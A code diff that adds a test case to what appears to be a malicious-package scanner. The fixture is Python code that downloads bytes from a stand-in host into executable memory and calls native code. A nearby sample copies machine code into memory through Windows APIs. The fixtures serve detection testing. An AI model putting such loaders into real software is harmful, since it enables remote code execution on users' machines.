@@ -95,6 +95,13 @@ export const samples: Samples = {
       expected: [{ rule: 'machine-code', file: 'own/__init__.py', line: 4, severity: 'high' }],
     },
     {
+      name: 'Python: what a server gives in memory that may be run, by its number',
+      files: wheel(
+        "import ctypes, mmap, urllib.request\ndef load():\n    page = mmap.mmap(-1, 4096, prot=7)\n    page.write(urllib.request.urlopen('https://a.weir.test/c').read())\n    return ctypes.CFUNCTYPE(ctypes.c_int)(1)()\n",
+      ),
+      expected: [{ rule: 'machine-code', file: 'own/__init__.py', line: 4, severity: 'high' }],
+    },
+    {
       name: 'Python: machine code in memory',
       files: wheel(
         'import ctypes\ndef load(code):\n    at = ctypes.windll.kernel32.VirtualAlloc(0, len(code), 0x3000, 0x40)\n    ctypes.windll.kernel32.RtlMoveMemory(at, code, len(code))\n',
